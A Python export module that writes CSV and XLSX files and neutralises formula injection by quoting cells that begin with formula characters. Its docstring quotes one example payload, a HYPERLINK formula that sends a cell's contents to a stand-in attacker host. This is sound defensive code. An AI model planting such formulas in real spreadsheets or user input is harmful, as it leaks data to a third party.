"""Writing tables to the files people open: CSV (UTF-8 with BOM, for Excel) and XLSX.

Every export goes through here, because the values are people's input: a name such as
``=HYPERLINK("http://evil.test/?x="&A1,"click")`` must stay text in the spreadsheet, never
become a formula (CSV/formula injection). Text beginning with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is written as text: in CSV with a leading single quote (OWASP's advice),
in XLSX as a string cell shown with a quote prefix. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

FORMATS = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
# What spreadsheet programs read as the start of a formula (or of a cell's hidden content).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_safe(value: Any) -> Any:
    """The value as a CSV cell that no spreadsheet evaluates."""
    return "'" + value if is_formula_like(value) else value


def xlsx_safe(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Any:
    """The value for ``sheet.append``: formula-like text as a string cell, the rest as is.

    openpyxl stores any str beginning with "=" as a formula; a cell whose type is forced to
    string is written as inline text, and the quote prefix keeps it text when edited in Excel.
    """
    if not is_formula_like(value):
        return value
    # openpyxl (and numpy, which it loads) is imported when a spreadsheet is written, not by
    # every command and page that imports this module: a quarter of a second saved.
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    return [xlsx_safe(sheet, v) for v in values]


def _cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, datetime.datetime):
        return value.replace(tzinfo=None) if value.tzinfo else value
    if isinstance(value, datetime.date | int | float | Decimal):
        return value
    if isinstance(value, list | tuple | set):
        return ", ".join(str(v) for v in value)
    return str(value)


def write_table(
    fmt: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], title: str = "Export"
) -> bytes:
    """The rows as a CSV or XLSX file's bytes."""
    if fmt == "csv":
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow([csv_safe(h) for h in headers])
        for row in rows:
            writer.writerow(
                [v.isoformat() if isinstance(v, datetime.date) else csv_safe(_cell(v)) for v in row]
            )
        return out.getvalue().encode("utf-8-sig")
    if fmt == "xlsx":
        from openpyxl import Workbook

        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet(title[:31])
        sheet.append(xlsx_row(sheet, headers))
        for row in rows:
            sheet.append(xlsx_row(sheet, (_cell(v) for v in row)))
        buffer = io.BytesIO()
        workbook.save(buffer)
        return buffer.getvalue()
    raise ValueError(f"Unknown export format {fmt!r}; choose csv or xlsx.")
